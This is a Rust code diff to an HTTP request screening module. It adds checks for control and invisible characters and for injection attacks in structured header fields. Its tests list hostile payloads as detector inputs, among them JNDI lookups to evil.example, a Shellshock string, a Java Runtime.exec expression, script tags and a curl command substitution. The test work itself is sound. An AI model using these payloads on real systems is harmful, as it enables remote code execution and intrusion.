@@ -1,14 +1,15 @@
-//! Attacks in the path, the query and the header fields, and personal data in the latter two.
+//! What characters the path, the query and the header fields have; attacks in them, and personal data in the latter two.
 
 use percent_encoding::percent_decode_str;
 
 use super::note;
 use crate::access::{Header, Target};
-use crate::problem::Refusal;
-use crate::screening::{Kind, Notes, Screening};
+use crate::problem::{Reason, Refusal};
+use crate::screening::{ArgumentScreen, Kind, Notes, Screening, Unfit};
 
 /// Fields that are not free text: proxies and the policy read them by their grammars, and a program behind does so too. In a
-/// credential anything may stand, and a match would be by chance.
+/// credential nearly anything may stand, and a match would be by chance. But whoever writes what came into a log need not read it
+/// first.
 const STRUCTURED: [&str; 24] = [
     "accept",
     "accept-encoding",
@@ -55,6 +56,37 @@ const CREDENTIALS: [&str; 14] = [
     "x-real-ip",
 ];
 
+/// Whether the path, the query and the header fields have only the characters that texts may have. Nothing can be taken out of
+/// them, so it is refused what would be.
+pub(super) fn check_characters(
+    screening: &Screening,
+    target: Option<&Target>,
+    headers: &[Header<'_>],
+) -> Result<(), Refusal> {
+    let refused = |at: &str, Unfit { reason, expected, .. }: Unfit| {
+        Refusal::new(reason, format!("Expected {expected}.")).finding(at, expected)
+    };
+    let parts = target.map(|target| [target.path.as_str(), target.query.as_deref().unwrap_or("")]);
+    // Without an escape there are only characters of a URI.
+    for part in parts.iter().flatten().filter(|part| part.contains('%')) {
+        let text = percent_decode_str(part).decode_utf8().or_else(|_| {
+            let expected = "UTF-8".to_owned();
+            let unfit = Unfit { reason: Reason::TextInvalid, expected, character: 0 };
+            match screening.refuses_control() {
+                true => Err(refused(":path", unfit)),
+                false => Ok(percent_decode_str(part).decode_utf8_lossy()),
+            }
+        })?;
+        screening.check_in_head(&text).map_err(|unfit| refused(":path", unfit))?;
+    }
+    for (name, value) in headers.iter().filter(|(name, _)| !name.starts_with(':')) {
+        // What is not UTF-8 is read as far as it is.
+        let value = String::from_utf8_lossy(value);
+        screening.check_in_head(&value).map_err(|unfit| refused(name, unfit))?;
+    }
+    Ok(())
+}
+
 /// The path, as it was normalised, and the query.
 pub(super) fn target(
     screening: &Screening,
@@ -83,7 +115,11 @@ pub(super) fn fields(
     notes: &mut Notes,
 ) -> Result<(), Refusal> {
     for (name, value) in headers {
-        if name.starts_with(':') || STRUCTURED.contains(name) {
+        if name.starts_with(':') {
+            continue;
+        }
+        if STRUCTURED.contains(name) {
+            structured(screening, name, value, notes)?;
             continue;
         }
         // What is not UTF-8 is read as far as it is.
@@ -102,6 +138,30 @@ pub(super) fn fields(
     Ok(())
 }
 
+/// What no grammar has need of: templates, scripts, code and substitutions. Few values have one of the signs that each of them begins
+/// with, and only those are read.
+fn structured(
+    screening: &Screening,
+    name: &str,
+    value: &[u8],
+    notes: &mut Notes,
+) -> Result<(), Refusal> {
+    if memchr::memchr3(b'{', b'<', b'$', value).is_none() {
+        return Ok(());
+    }
+    let mut found = screening.attacks(&String::from_utf8_lossy(value));
+    // Less than certain it is by chance: a placeholder, or one of the signs that an ETag may well have.
+    found.retain(|found| {
+        let is_sure = found.detection.score >= ArgumentScreen::DENY;
+        let is_possible = matches!(
+            found.detection.kind,
+            Kind::TemplateInjection | Kind::Xss | Kind::CodeInjection | Kind::CommandInjection
+        );
+        is_sure && is_possible
+    });
+    note(&found, || name.to_owned(), notes)
+}
+
 fn field(screening: &Screening, name: &str, value: &str, notes: &mut Notes) -> Result<(), Refusal> {
     let mut found = screening.attacks(value);
     // A referrer may well be on one's own machine, and a browser names what it likes in parentheses.
@@ -112,8 +172,9 @@ fn field(screening: &Screening, name: &str, value: &str, notes: &mut Notes) -> R
 #[cfg(test)]
 mod tests {
     use super::*;
-    use crate::document::{InputSection, Reaction, ScreeningSection};
-    use crate::problem::Reason;
+    use crate::document::{
+        Handling, InputSection, Normalisation, Reaction, ScreeningSection, TextSection,
+    };
     use crate::screening::Action;
 
     fn screened(fields: &[(&str, &str)]) -> Result<Notes, Refusal> {
@@ -128,6 +189,30 @@ mod tests {
         }
         super::fields(&screening, &headers, &mut notes)?;
         Ok(notes)
+    }
+
+    /// The fields that are read by their grammars.
+    #[test]
+    fn what_no_grammar_needs_is_found_in_every_field() {
+        for name in STRUCTURED {
+            for value in [
+                "${jndi:ldap://evil.example/a}",
+                "Bearer ${jndi:ldap://evil.example/a}",
+                "text/html; q=${${lower:j}ndi:ldap://evil.example/a}",
+                "a, \"${${::-j}${::-n}di:rmi://evil.example/a}\"",
+                "() { :;}; /bin/bash -c id",
+                "#{7*7}",
+                "%{(#a=@java.lang.Runtime@getRuntime().exec('id'))}",
+                "<script>alert(1)</script>",
+                "\"><img src=x onerror=alert(1)>",
+                "<?php system('id'); ?>",
+                "$(curl http://evil.example/)",
+            ] {
+                let refusal = screened(&[(name, value)]).expect_err(value);
+                assert_eq!(refusal.reason, Reason::AttackSuspected, "{name}: {value}");
+                assert_eq!(refusal.findings[0].at, name);
+            }
+        }
     }
 
     #[test]
@@ -147,6 +232,67 @@ mod tests {
             assert_eq!(refusal.reason, Reason::AttackSuspected, "{field:?}");
             assert_eq!(refusal.findings[0].at, field.0);
         }
+    }
+
+    fn characters(text: TextSection, field: (&str, &[u8])) -> Result<(), Reason> {
+        let section = InputSection { text: Some(text), ..Default::default() };
+        let screening = Screening::compile(&section, None, "input").unwrap();
+        let headers = [(":method", &b"GET"[..]), (":authority", b"api.example"), field];
+        let target =
+            (field.0 == ":path").then(|| Target::read(&headers)).transpose().expect("a path");
+        let checked = check_characters(&screening, target.as_ref(), &headers);
+        checked.map_err(|refusal| {
+            assert_eq!(refusal.findings[0].at, field.0);
+            refusal.reason
+        })
+    }
+
+    #[test]
+    fn characters_that_would_be_taken_out_are_refused() {
+        let rules = |control, invisible| TextSection { control, invisible, ..Default::default() };
+        let bytes = |text: &'static str| text.as_bytes();
+        let control = [(":path", "/x?q=a%00b"), (":path", "/x?q=%1b%5B2J"), (":path", "/x?%7f=1")];
+        for (name, value) in control {
+            for handling in [Handling::Refuse, Handling::Strip] {
+                let found = characters(rules(handling, Handling::Allow), (name, bytes(value)));
+                assert_eq!(found, Err(Reason::ControlCharacter), "{value}");
+            }
+            let found = characters(rules(Handling::Allow, Handling::Refuse), (name, bytes(value)));
+            assert_eq!(found, Ok(()), "{value}");
+        }
+        let invisible = [
+            (":path", "/x?q=a%E2%80%AEb"),
+            (":path", "/x?a%E2%80%8Bb"),
+            (":path", "/x/a%E2%80%AEb"),
+            (":path", "/x?q=%F3%A0%81%81"),
+            ("x-a", "a\u{202e}b"),
+            ("user-agent", "a\u{200b}b"),
+            ("cookie", "a=\u{feff}b"),
+            ("accept-language", "en\u{200b}"),
+        ];
+        for (name, value) in invisible {
+            for handling in [Handling::Refuse, Handling::Strip] {
+                let found = characters(rules(Handling::Allow, handling), (name, bytes(value)));
+                assert_eq!(found, Err(Reason::InvisibleCharacter), "{value}");
+            }
+            let found = characters(rules(Handling::Refuse, Handling::Allow), (name, bytes(value)));
+            assert_eq!(found, Ok(()), "{value}");
+        }
+        let bad = (":path", &b"/x?q=%ff&a=%c3&b=%a9"[..]);
+        let strict = rules(Handling::Refuse, Handling::Refuse);
+        assert_eq!(characters(strict, bad), Err(Reason::TextInvalid));
+        assert_eq!(characters(rules(Handling::Allow, Handling::Refuse), bad), Ok(()));
+        for (name, value) in [
+            (":path", &b"/x/%C3%A9?q=a+b%20c%0a%09d&e=%E2%9D%A4%EF%B8%8F&f=%D7%A9%E2%80%8F"[..]),
+            ("x-title", "Caf\u{e9} \u{2764}\u{fe0f} \u{2014} chat".as_bytes()),
+            ("x-title", b"caf\xe9"),
+            ("x-a", b"a\tb"),
+        ] {
+            assert_eq!(characters(strict, (name, value)), Ok(()), "{name}");
+        }
+        // How long texts may be and what form they have is said of bodies.
+        let text = TextSection { max_chars: 3, normalise: Normalisation::Nfkc, ..strict };
+        assert_eq!(characters(text, (":path", b"/x?q=%EF%BD%89%EF%BD%84")), Ok(()));
     }
 
     fn with_data(reaction: Reaction, fields: &[(&str, &str)]) -> Result<Notes, Refusal> {
@@ -235,6 +381,53 @@ mod tests {
                 "session=eyJhbGciOiJIUzI1NiJ9.e30.abc-_; theme=dark; _ga=GA1.2.123456789.1700000000",
             ),
             ("x-api-key", "pk_a1b2c3.d4e5f6g7h8i9j0k1l2m3n4o5p6q7r8s9"),
+            (
+                "accept",
+                "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
+            ),
+            ("accept", "application/json, text/event-stream"),
+            ("accept-language", "en-GB,en;q=0.9,de-DE;q=0.8,*;q=0.5"),
+            ("accept-encoding", "gzip, deflate, br, zstd"),
+            ("authorization", "Basic QWxhZGRpbjpvcGVuIHNlc2FtZQ=="),
+            (
+                "authorization",
+                "Digest username=\"Mufasa\", realm=\"http-auth@example.org\", uri=\"/dir/index.html\", algorithm=SHA-256, nonce=\"7ypf/xlj9XXwfDPEoM4URrv/xwf94BcCAzFZH4GiTo0v\"",
+            ),
+            (
+                "authorization",
+                "AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20150830/us-east-1/iam/aws4_request, SignedHeaders=content-type;host, Signature=5d672d79c15b13162d9279b0855cfba6789a8edb4c82c400e06b5924a6f2b5d7",
+            ),
+            // What was copied from a manual.
+            ("authorization", "Bearer $OPENAI_API_KEY"),
+            ("authorization", "Bearer ${OPENAI_API_KEY}"),
+            ("authorization", "Bearer {{token}}"),
+            ("authorization", "Bearer <your-api-key>"),
+            ("if-none-match", "W/\"a<b\", \"{0815}\", \"$1\""),
+            ("if-none-match", "\"{7F0C7B2A-4C1E-4B0A-9F3A-2F6D2B7C1D11},3\""),
+            ("if-match", "\"'<etag>'\""),
+            ("content-type", "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW"),
+            (
+                "content-type",
+                "multipart/related; type=\"application/xop+xml\"; start=\"<rootpart@soapui.org>\"; start-info=\"text/xml\"",
+            ),
+            ("traceparent", "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01"),
+            ("tracestate", "dd=s:2;o:rum;t.dm:-4;p:00f067aa0ba902b7,congo=t61rcWkgMzE,a=<b>{c}$"),
+            ("via", "1.1 vegur, 2.0 varnish (Varnish/7.1 {edge} <eu>)"),
+            (
+                "forwarded",
+                "for=\"[2001:db8:cafe::17]:4711\";proto=http;by=203.0.113.43, for=_hidden",
+            ),
+            ("x-forwarded-for", "203.0.113.7, 2001:db8::1"),
+            ("origin", "https://app.example.com"),
+            ("origin", "null"),
+            ("priority", "u=1, i"),
+            ("te", "trailers"),
+            (
+                "signature-input",
+                "sig1=(\"@method\" \"@authority\" \"content-digest\");created=1618884473;keyid=\"test-key\"",
+            ),
+            ("content-digest", "sha-256=:X48E9qOokqqrvdts8nOJRJN3OWDUoyWxBf7kbu9DBPE=:"),
+            ("x-request-id", "{7f0c7b2a-4c1e-4b0a-9f3a-2f6d2b7c1d11}"),
         ] {
             let notes =
                 screened(&[field]).unwrap_or_else(|refusal| panic!("{field:?}: {refusal:?}"));
